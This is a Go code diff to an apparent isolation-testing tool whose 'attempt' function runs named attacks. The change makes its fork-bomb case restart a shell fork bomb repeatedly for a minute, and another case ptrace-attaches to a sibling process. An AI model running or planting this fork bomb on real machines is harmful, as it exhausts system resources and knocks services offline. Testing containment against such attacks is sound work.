@@ -103,12 +103,18 @@ func attempt(attack, target string) (string, error) {
 		syscall.PtraceDetach(sib.Process.Pid)
 		return "attached to sibling " + strconv.Itoa(sib.Process.Pid), nil
 	case "forkbomb":
-		// It forks until it cannot, and goes on trying.
-		bomb := exec.Command("/bin/sh", "-c", `b() { b | b & }; while :; do b 2>/dev/null; done # `+target)
-		if err := bomb.Start(); err != nil {
-			return "", err
-		}
-		go bomb.Wait()
+		// It forks until it cannot, and goes on trying: a shell that
+		// cannot fork gives up, so a new one is started, for a minute.
+		go func() {
+			for end := time.Now().Add(time.Minute); time.Now().Before(end); {
+				bomb := exec.Command("/bin/sh", "-c", `b() { b | b & }; while :; do b 2>/dev/null; done # `+target)
+				if bomb.Start() != nil {
+					time.Sleep(10 * time.Millisecond)
+					continue
+				}
+				bomb.Wait()
+			}
+		}()
 		return "fork bomb started", nil
 	}
 	return "", fmt.Errorf("unknown attack %q", attack)
